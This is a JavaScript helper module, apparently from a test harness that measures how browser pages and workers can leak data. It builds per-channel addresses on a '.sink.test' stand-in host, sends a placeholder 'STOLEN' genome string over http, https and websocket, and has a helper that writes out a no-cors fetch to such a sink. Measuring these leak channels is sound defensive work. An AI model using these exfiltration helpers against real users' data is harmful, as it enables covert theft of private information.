// Where an attack sends what it has stolen, and the few tools that all of them use. Runs in pages and workers.

/** Milliseconds that a connection or a lookup gets before an attack goes on. */
const BREATH = 1_200;

/** What would be a genome. It stands in paths and bodies; the name of the host says whose it is. */
export const STOLEN = "ACGTACGT";

/**
 * Addresses of one channel in one run. Every channel has a host name of its own, since looking a name up
 * already tells it to somebody: `<channel>.<page|worker>.<site>.sink.test`.
 */
export function aim(id, { context, site, origin, port }) {
  const host = (part = "") => `${id}${part === "" ? "" : `--${part}`}.${context}.${site}.sink.test`;
  return {
    id,
    host,
    url: (part) => `http://${host(part)}/${STOLEN}`,
    secure: (part) => `https://${host(part)}/${STOLEN}`,
    socket: (part) => `ws://${host(part)}/${STOLEN}`,
    /** The host that served the page: its log would hold what is asked of it. */
    own: () => `${origin}/own/${id}/${context}/${site}?${STOLEN}`,
    /** A UDP port of the sink that no other site or context uses, for what is sent without a name. */
    port,
    settings: { context, site, origin, port },
  };
}

export const wait = (milliseconds = BREATH) =>
  new Promise((resolve) => setTimeout(resolve, milliseconds));

/** What comes first of some events, by its name. */
export const first = (target, ...names) =>
  new Promise((resolve) => {
    for (const name of names) target.addEventListener(name, () => resolve(name), { once: true });
  });

/** A script as an address of its own, for workers and frames. */
export const blob = (text, type = "text/javascript") =>
  URL.createObjectURL(new Blob([text], { type }));

/** The text of a script that fetches an address, as one inside another script. */
export const fetching = (url) => `fetch(${JSON.stringify(url)}, { mode: "no-cors" });`;

/** Whether a name of the global scope is there: browsers differ, and so do pages and workers. */
export const named = (name) => () => name in globalThis;
